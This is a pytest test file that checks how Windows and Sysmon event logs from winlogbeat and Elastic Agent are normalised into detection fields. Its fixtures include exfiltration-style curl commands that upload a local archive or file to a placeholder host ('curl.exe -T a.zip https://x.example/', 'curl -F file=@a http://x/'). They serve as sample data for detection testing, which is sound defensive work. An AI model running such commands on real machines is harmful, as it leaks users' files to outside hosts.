"""winlogbeat and Elastic Agent on Windows, before and after their modules; nested keys and dotted ones."""

import pytest

from .reading import Case, Json, check, dotted, events, one, partly_dotted, same

HOST = {"name": "ws1", "os": {"type": "windows", "family": "windows"}}
SYSMON: Json = {
    "channel": "Microsoft-Windows-Sysmon/Operational",
    "provider_name": "Microsoft-Windows-Sysmon",
    "computer_name": "WS1.corp.example",
    "opcode": "Info",
}


def winlog(number: str, data: Json, **more: object) -> Json:
    """A record of winlogbeat or Elastic Agent."""
    return {
        "@timestamp": "2026-03-12T09:14:02.123Z",
        "agent": {"type": "winlogbeat", "name": "collector", "version": "8.17.0"},
        "ecs": {"version": "8.0.0"},
        "event": {"code": number, "provider": "Microsoft-Windows-Sysmon", "ingested": "2026-03-12T09:14:09Z"},
        "host": HOST,
        "winlog": {**SYSMON, "event_id": number, "record_id": "4711", "event_data": data},
        **more,
    }


def other_log(channel: str, number: str, data: Json, **more: object) -> Json:
    record = winlog(number, data, **more)
    record["winlog"] |= {"channel": channel, "provider_name": channel}
    return record


CURL = {
    "executable": "C:\\Windows\\System32\\curl.exe",
    "name": "curl.exe",
    "command_line": "curl.exe -T a.zip https://x.example/",
    "args": ["curl.exe", "-T", "a.zip", "https://x.example/"],
    "entity_id": "{1a2b3c4d-0000-0000-0000-000000000001}",
    "pid": 5028,
    "working_directory": "C:\\Users\\ann\\",
    "hash": {"sha256": "ab" * 32},
    "pe": {"original_file_name": "curl.exe"},
    "parent": {
        "executable": "C:\\Windows\\System32\\cmd.exe",
        "command_line": "cmd.exe /c up.cmd",
        "pid": 560,
        "entity_id": "{1a2b3c4d-0000-0000-0000-000000000000}",
    },
}
ANN = {"domain": "CORP", "name": "ann", "id": "S-1-5-21-1-2-3-1001"}
CREATION = {
    "Image": "C:\\Windows\\System32\\curl.exe",
    "CommandLine": "curl.exe -T a.zip https://x.example/",
    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
    "ParentCommandLine": "cmd.exe /c up.cmd",
    "User": "CORP\\ann",
    "ProcessId": 5028,
    "ParentProcessId": 560,
    "OriginalFileName": "curl.exe",
    "Computer": "WS1.corp.example",
}
RAW_CREATION = {
    "UtcTime": "2026-03-12 09:14:02.120",
    "Image": "C:\\Windows\\System32\\curl.exe",
    "CommandLine": "curl.exe -T a.zip https://x.example/",
    "ParentImage": "C:\\Windows\\System32\\cmd.exe",
    "ParentCommandLine": "cmd.exe /c up.cmd",
    "User": "CORP\\ann",
    "ProcessId": "5028",
    "ParentProcessId": "560",
    "OriginalFileName": "curl.exe",
}
WINDOWS_TIME = {"host": "WS1.corp.example", "time": "2026-03-12T09:14:02.123Z"}
NOON = "2026-03-12T12:00:00Z"


def windows(name: str, record: Json, category: str, fields: Json, **more: object) -> Case:
    return Case(name, record, "ecs_windows", category, "windows", **WINDOWS_TIME, fields=fields, **more)  # type: ignore[arg-type]


WINDOWS = [
    windows(
        "Sysmon 1 after the sysmon module",
        winlog("1", {"Company": "curl", "IntegrityLevel": "High"}, process=CURL, user=ANN),
        "process_creation",
        CREATION | {"Company": "curl", "IntegrityLevel": "High"},
        service="sysmon",
        ingest_time="2026-03-12T09:14:09Z",
        raw={"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
    ),
    windows(
        "Sysmon 1 as the log has it",
        winlog("1", RAW_CREATION),
        "process_creation",
        CREATION | {"ProcessId": "5028", "ParentProcessId": "560"},
        raw={"Image": CURL["executable"], "EventID": 1},
    ),
    windows(
        "Sysmon 3 after the sysmon module",
        winlog(
            "3",
            {"Initiated": "true"},
            process={"executable": CURL["executable"], "pid": 5028},
            user=ANN,
            network={"transport": "tcp", "direction": "egress", "protocol": "https"},
            source={"ip": "10.0.0.5", "port": 50123, "domain": "ws1"},
            destination={"ip": "203.0.113.7", "port": 443, "domain": "x.example"},
        ),
        "network_connection",
        {
            "Image": CURL["executable"],
            "DestinationIp": "203.0.113.7",
            "DestinationPort": 443,
            "DestinationHostname": "x.example",
            "SourceIp": "10.0.0.5",
            "Protocol": "tcp",
            "Initiated": "true",
            "User": "CORP\\ann",
        },
    ),
    windows(
        "Sysmon 11 after the sysmon module",
        winlog("11", {}, process={"executable": "C:\\p.exe"}, file={"path": "C:\\Users\\ann\\a.zip", "name": "a.zip"}),
        "file_event",
        {"Image": "C:\\p.exe", "TargetFilename": "C:\\Users\\ann\\a.zip"},
    ),
    windows(
        "Sysmon 22 after the sysmon module",
        winlog("22", {}, process={"executable": "C:\\p.exe"}, dns={"question": {"name": "x.example"}}),
        "dns_query",
        {"Image": "C:\\p.exe", "QueryName": "x.example"},
    ),
    windows(
        "Security 4688 as the log has it",
        other_log(
            "Security",
            "4688",
            {
                "NewProcessName": CURL["executable"],
                "NewProcessId": "0x13a4",
                "ProcessId": "0x230",
                "CommandLine": "curl.exe -T a.zip https://x.example/",
                "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
                "SubjectDomainName": "CORP",
                "SubjectUserName": "ann",
                "MandatoryLabel": "S-1-16-12288",
            },
        ),
        "process_creation",
        {
            name: CREATION[name]
            for name in ("Image", "CommandLine", "ParentImage", "User", "ProcessId", "ParentProcessId")
        }
        | {"IntegrityLevel": "High"},
        service="security",
    ),
    windows(
        "Security 4688 after the security module",
        other_log("Security", "4688", {"SubjectUserName": "ann", "SubjectDomainName": "CORP"}, process=CURL, user=ANN),
        "process_creation",
        CREATION,
    ),
    windows(
        "Security 5156",
        other_log(
            "Security",
            "5156",
            {
                "Application": "\\device\\harddiskvolume3\\windows\\system32\\curl.exe",
                "ProcessID": "5028",
                "Direction": "%%14593",
                "DestAddress": "203.0.113.7",
                "DestPort": "443",
                "SourceAddress": "10.0.0.5",
                "SourcePort": "50123",
                "Protocol": "6",
            },
        ),
        "network_connection",
        {
            "DestinationIp": "203.0.113.7",
            "DestinationPort": 443,
            "Protocol": "tcp",
            "Initiated": "true",
            "ProcessId": 5028,
        },
    ),
    windows(
        "PowerShell 4104 after the powershell module",
        other_log(
            "Microsoft-Windows-PowerShell/Operational",
            "4104",
            {},
            powershell={
                "file": {"script_block_text": "gci -Recurse", "script_block_id": "b1"},
                "sequence": 1,
                "total": 1,
            },
            user=ANN,
        ),
        "ps_script",
        {"ScriptBlockText": "gci -Recurse", "ScriptBlockId": "b1", "MessageTotal": 1, "User": "CORP\\ann"},
    ),
    windows(
        "PowerShell 400, whose data have no names",
        other_log(
            "Windows PowerShell",
            "400",
            {
                "param1": "Available",
                "param2": "None",
                "param3": "\tNewEngineState=Available\n\tHostApplication=powershell -f a.ps1\n\tEngineVersion=5.1",
            },
        ),
        "ps_classic_start",
        {"HostApplication": "powershell -f a.ps1", "EngineVersion": "5.1"},
    ),
    windows(
        "TaskScheduler 106",
        other_log(
            "Microsoft-Windows-TaskScheduler/Operational", "106", {"TaskName": "\\Collect", "UserContext": "CORP\\ann"}
        ),
        "",
        {"User": "CORP\\ann"},
        service="taskscheduler",
        raw={"TaskName": "\\Collect", "EventID": 106},
    ),
    Case(
        "Sysmon for Linux by Elastic Agent",
        {
            "@timestamp": NOON,
            "event": {"code": "1"},
            "host": {"name": "web1"},
            "winlog": {
                "channel": "Linux-Sysmon/Operational",
                "provider_name": "Linux-Sysmon",
                "computer_name": "web1",
                "event_id": "1",
            },
            "process": {"executable": "/usr/bin/curl", "command_line": "curl -F file=@a http://x/"},
            "user": {"name": "ann"},
        },
        "ecs_windows",
        "process_creation",
        "linux",
        "web1",
        NOON,
        {"Image": "/usr/bin/curl", "CommandLine": "curl -F file=@a http://x/", "User": "ann"},
        service="sysmon",
    ),
]


WINLOGBEAT6 = [
    Case(
        "Sysmon 1",
        {
            "@timestamp": "2019-05-18T20:20:32.811Z",
            "beat": {"hostname": "collector", "version": "6.7.0"},
            "computer_name": "WS1.corp.example",
            "event_data": RAW_CREATION,
            "event_id": 1,
            "level": "Information",
            "log_name": "Microsoft-Windows-Sysmon/Operational",
            "record_number": "2189464",
            "source_name": "Microsoft-Windows-Sysmon",
            "type": "wineventlog",
        },
        "winlogbeat6",
        "process_creation",
        "windows",
        "WS1.corp.example",
        "2019-05-18T20:20:32.811Z",
        {"Image": CURL["executable"], "CommandLine": CURL["command_line"], "User": "CORP\\ann"},
        raw={"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
    ),
    Case(
        "Security 4688",
        {
            "@timestamp": "2019-05-18T20:20:32.811Z",
            "computer_name": "WS1.corp.example",
            "event_data": {"NewProcessName": "C:\\p.exe", "NewProcessId": "0x10", "CommandLine": "p.exe /x"},
            "event_id": 4688,
            "log_name": "Security",
            "source_name": "Microsoft-Windows-Security-Auditing",
        },
        "winlogbeat6",
        "process_creation",
        "windows",
        "WS1.corp.example",
        "2019-05-18T20:20:32.811Z",
        {"Image": "C:\\p.exe", "CommandLine": "p.exe /x", "ProcessId": 16},
    ),
    Case(
        "Sysmon 3",
        {
            "@timestamp": "2019-05-18T20:20:32.811Z",
            "computer_name": "WS1.corp.example",
            "event_data": {"Image": "C:\\p.exe", "DestinationIp": "203.0.113.7", "DestinationPort": "443"},
            "event_id": 3,
            "log_name": "Microsoft-Windows-Sysmon/Operational",
        },
        "winlogbeat6",
        "network_connection",
        "windows",
        "WS1.corp.example",
        "2019-05-18T20:20:32.811Z",
        {"Image": "C:\\p.exe", "DestinationIp": "203.0.113.7", "DestinationPort": "443"},
    ),
]
ALL = [*WINDOWS, *WINLOGBEAT6]


@pytest.mark.parametrize("case", ALL, ids=lambda case: f"{case.shape}: {case.name}")
def test_a_record_becomes_its_event(case):
    check(case)


@pytest.mark.parametrize("case", ALL, ids=lambda case: f"{case.shape}: {case.name}")
def test_dots_in_the_keys_say_the_same_as_objects(case):
    same(one(case.record), one(dotted(case.record)))


@pytest.mark.parametrize("case", ALL, ids=lambda case: f"{case.shape}: {case.name}")
def test_the_keys_may_be_dotted_in_part(case):
    same(one(case.record), one(partly_dotted(case.record)))


def test_an_event_of_a_search_answer_is_the_event_itself():
    hit = {"_index": "logs", "_id": "a", "_source": WINDOWS[0].record}
    (found,) = events({"took": 1, "hits": {"hits": [hit]}})
    assert found == one(WINDOWS[0].record)


def test_a_search_may_have_asked_for_fields_instead_of_the_source():
    fields = {name: value if isinstance(value, list) else [value] for name, value in dotted(WINDOWS[0].record).items()}
    (found,) = events({"took": 1, "hits": {"hits": [{"_index": "logs", "_id": "a", "fields": fields}]}})
    assert found.fields == one(WINDOWS[0].record).fields


def test_the_host_is_where_it_happened_not_the_collector():
    record = winlog("1", RAW_CREATION) | {"host": {"name": "collector"}}
    assert one(record).host == "WS1.corp.example"
